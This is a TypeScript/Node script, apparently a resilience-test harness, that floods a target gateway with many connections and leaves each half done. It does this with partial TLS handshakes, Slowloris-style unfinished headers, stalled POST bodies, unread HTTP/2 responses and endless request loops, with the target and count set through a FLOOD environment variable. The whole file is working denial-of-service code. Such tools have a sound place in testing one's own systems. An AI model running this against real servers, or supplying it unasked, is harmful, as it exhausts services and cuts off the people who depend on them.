import { connect as connectHttp2 } from 'node:http2';
import { connect, type Socket } from 'node:net';
import { Duplex } from 'node:stream';
import { connect as connectTls } from 'node:tls';

/* One address that wants all of a gateway: it opens many connections at once and leaves each of them half done.
 * FLOOD is JSON: what to send, to which server, and how often. It says "holds" once each connection is open or was refused. */

interface Flood {
  /** nothing; half a TLS handshake; a whole ClientHello; half a header over TLS, or without it; unfinished bodies;
   * responses that are not read; requests without end, each after the response before it. */
  readonly kind: 'silent' | 'half-hello' | 'hello' | 'header' | 'plain-header' | 'body' | 'unread' | 'requests';
  readonly host: string;
  readonly port: number;
  readonly name: string;
  readonly connections: number;
  /** Requests on each connection of HTTP/2, for the last two kinds. */
  readonly streams?: number;
  readonly paths?: readonly string[];
}

const {
  kind,
  host,
  port,
  name,
  connections,
  streams = 0,
  paths = ['/'],
}: Flood = JSON.parse(process.env.FLOOD ?? '{}');

/** The ClientHello of this Node. */
function clientHello(): Promise<Buffer> {
  return new Promise((resolve) => {
    const pipe = new Duplex({
      read() {},
      write(chunk, _encoding, done) {
        resolve(chunk);
        done();
      },
    });
    connectTls({ socket: pipe as Socket, servername: name, ALPNProtocols: ['h2'] }).on('error', () => {});
  });
}

const hello = await clientHello();

/** RFC 9113 section 4.1. */
function frame(type: number, flags: number, stream: number, payload = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

const text = (value: string): Buffer => Buffer.concat([Buffer.from([value.length]), Buffer.from(value)]);

/** Literal fields without indexing (RFC 7541 section 6.2.2). */
const fields = (all: Readonly<Record<string, string>>) =>
  Buffer.concat(Object.entries(all).map(([key, value]) => Buffer.concat([Buffer.from([0]), text(key), text(value)])));

function requests(): Buffer {
  const setting = Buffer.alloc(6);
  setting.writeUInt16BE(4, 0);
  setting.writeUInt32BE(kind === 'unread' ? 0 : 65535, 2);
  const sent = Array.from({ length: streams }, (_, i) => {
    const pseudo = { ':scheme': 'https', ':path': paths[i % paths.length]!, ':authority': name };
    if (kind === 'unread') return frame(1, 5, 2 * i + 1, fields({ ':method': 'GET', ...pseudo }));
    const form = { 'content-type': 'application/x-www-form-urlencoded', 'content-length': '16000' };
    return [
      frame(1, 4, 2 * i + 1, fields({ ':method': 'POST', ...pseudo, ...form })),
      frame(0, 0, 2 * i + 1, Buffer.from('a=')),
    ];
  });
  return Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, 0, 0, setting), ...sent.flat()]);
}

const halfHeader = `GET / HTTP/1.1\r\nHost: ${name}\r\nX-Half: `;
const isTls = kind === 'header' || kind === 'body' || kind === 'unread';
const firsts: Readonly<Record<string, string | Buffer>> = {
  silent: '',
  'half-hello': hello.subarray(0, 60),
  hello,
  header: halfHeader,
  'plain-header': halfHeader,
};

/** Resolves with the first response; then each stream of the connection goes on, also over the connections after it. */
const askForever = (): Promise<void> =>
  new Promise((resolve) => {
    const session = connectHttp2(`https://${name}:${port}`, { host, servername: name, rejectUnauthorized: false });
    const ask = (i: number) => {
      if (session.closed || session.destroyed) return;
      const stream = session.request({ ':path': paths[i % paths.length]! });
      stream.on('error', () => {}).on('close', () => ask(i + 1));
      stream.once('response', () => resolve());
      stream.resume();
    };
    session.on('error', () => {}).on('close', () => askForever());
    session.once('connect', () => {
      for (let i = 0; i < streams; i++) ask(i);
    });
  });

/** Resolves once the connection is open and its bytes are sent, or it was refused. */
const open = (): Promise<void> =>
  new Promise((resolve) => {
    const socket = isTls
      ? connectTls({
          host,
          port,
          servername: name,
          rejectUnauthorized: false,
          ALPNProtocols: kind === 'header' ? [] : ['h2'],
        })
      : connect(port, host);
    socket.once(isTls ? 'secureConnect' : 'connect', () => {
      socket.write(firsts[kind] ?? requests(), () => resolve());
      socket.resume();
    });
    socket.on('error', () => resolve());
    socket.on('close', () => resolve());
  });

// Some at a time, as one machine can: more would only wait in its own kernel.
const AT_ONCE = 256;
let left = connections;
await Promise.all(
  Array.from({ length: AT_ONCE }, async () => {
    while (left-- > 0) await (kind === 'requests' ? askForever() : open());
  }),
);
console.log('holds');
setInterval(() => {}, 60_000);
